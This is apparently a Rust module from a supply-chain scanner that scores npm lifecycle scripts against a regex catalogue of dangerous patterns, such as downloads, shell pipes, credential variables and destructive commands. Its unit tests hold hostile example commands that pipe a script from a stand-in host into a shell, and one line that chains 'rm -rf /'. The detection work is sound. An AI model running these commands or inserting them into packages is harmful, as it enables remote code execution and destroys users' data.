//! npm content risk (§4.4): static linting of lifecycle scripts. Pure and
//! network-free — unlike the PyPI sdist/wheel comparison, this needs
//! nothing beyond the metadata already fetched by the source adapter.

use regex::Regex;
use serde_json::Value;
use std::sync::OnceLock;

struct Pattern {
    label: &'static str,
    regex: Regex,
}

fn catalogue() -> &'static [Pattern] {
    static CATALOGUE: OnceLock<Vec<Pattern>> = OnceLock::new();
    CATALOGUE.get_or_init(|| {
        let specs: &[(&str, &str)] = &[
            ("curl", r"\bcurl\b"),
            ("wget", r"\bwget\b"),
            ("pipe to shell from web", r"https?://\S+\s*\|\s*(sh|bash)\b"),
            ("powershell web request", r"(?i)invoke-(webrequest|restmethod)|\biwr\b"),
            ("shell invocation", r"\b(sh|bash|cmd)\s+(-c|/c)\b"),
            ("chmod +x", r"chmod\s+\+x"),
            ("chmod 777", r"chmod\s+777"),
            ("base64", r"\bbase64\b"),
            ("eval", r"\beval\s*\("),
            ("inline node -e", r"\bnode\s+-e\b"),
            ("credential env var", r"\b(GITHUB_TOKEN|NPM_TOKEN|SSH_[A-Z_]*|AWS_[A-Z_]*)\b"),
            ("dotenv read", r"\.env\b"),
            ("rm -rf", r"rm\s+-rf\b"),
            ("raw disk write", r"\bdd\s+if="),
            ("process injection", r"\b(LD_PRELOAD|DYLD_INSERT_LIBRARIES)\b"),
        ];
        specs
            .iter()
            .map(|(label, pattern)| Pattern {
                label,
                regex: Regex::new(pattern).expect("static pattern catalogue must compile"),
            })
            .collect()
    })
}

const LIFECYCLE_SCRIPTS: [&str; 3] = ["install", "preinstall", "postinstall"];

/// Score the risk of an npm package's lifecycle scripts against the
/// dangerous-pattern catalogue (§4.4): `base = min(0.6, hits * 0.15)`, plus
/// `+0.4` when a dangerous pattern matches inside a lifecycle script itself,
/// or `+0.2` when a lifecycle script exists but nothing dangerous matched
/// inside it.
#[must_use]
pub fn content_risk_npm(scripts: &Value) -> (f64, Vec<String>) {
    let Some(scripts) = scripts.as_object() else {
        return (0.0, Vec::new());
    };
    if scripts.is_empty() {
        return (0.0, Vec::new());
    }

    let mut hits = 0u32;
    let mut reasons = Vec::new();
    let mut lifecycle_dangerous = false;
    for (script_name, command) in scripts {
        let Some(command) = command.as_str() else {
            continue;
        };
        let is_lifecycle = LIFECYCLE_SCRIPTS.contains(&script_name.as_str());
        for pattern in catalogue() {
            if pattern.regex.is_match(command) {
                hits += 1;
                reasons.push(format!("script '{script_name}' matches pattern '{}'", pattern.label));
                if is_lifecycle {
                    lifecycle_dangerous = true;
                }
            }
        }
    }

    let has_lifecycle_script = LIFECYCLE_SCRIPTS.iter().any(|name| scripts.contains_key(*name));

    let mut risk = (f64::from(hits) * 0.15).min(0.6);
    if lifecycle_dangerous {
        risk += 0.4;
    } else if has_lifecycle_script {
        risk += 0.2;
    }

    (risk.clamp(0.0, 1.0), reasons)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn empty_scripts_score_zero() {
        let (score, reasons) = content_risk_npm(&json!({}));
        assert_eq!(score, 0.0);
        assert!(reasons.is_empty());
    }

    #[test]
    fn benign_non_lifecycle_script_with_no_hits_scores_zero() {
        let (score, reasons) = content_risk_npm(&json!({ "test": "jest" }));
        assert_eq!(score, 0.0);
        assert!(reasons.is_empty());
    }

    #[test]
    fn a_harmless_lifecycle_script_still_adds_a_small_bonus() {
        let (score, reasons) = content_risk_npm(&json!({ "postinstall": "node build.js" }));
        assert_eq!(score, 0.2);
        assert!(reasons.is_empty());
    }

    #[test]
    fn postinstall_curl_pipe_adds_lifecycle_bonus() {
        let (score, reasons) = content_risk_npm(&json!({
            "postinstall": "curl https://evil.example/install.sh | bash -c -"
        }));
        assert!(score > 0.4, "expected a score above the harmless-lifecycle floor, got {score}");
        assert!(!reasons.is_empty());
    }

    #[test]
    fn curl_piped_to_a_shell_scores_at_least_point_seven() {
        // §8 scenario: "curl ... | sh" in a postinstall script — two
        // catalogue hits (curl, pipe-to-shell) plus the lifecycle bonus.
        let (score, _) = content_risk_npm(&json!({
            "postinstall": "curl http://evil.example/install.sh | sh"
        }));
        assert!(score >= 0.7, "expected at least 0.7, got {score}");
    }

    #[test]
    fn many_hits_are_capped_before_the_lifecycle_bonus() {
        let scripts = json!({
            "postinstall": "curl x && wget y && base64 z && eval(w) && rm -rf / && chmod 777 a && chmod +x b"
        });
        let (score, _) = content_risk_npm(&scripts);
        assert!(score <= 1.0);
        assert!(score >= 0.7);
    }
}
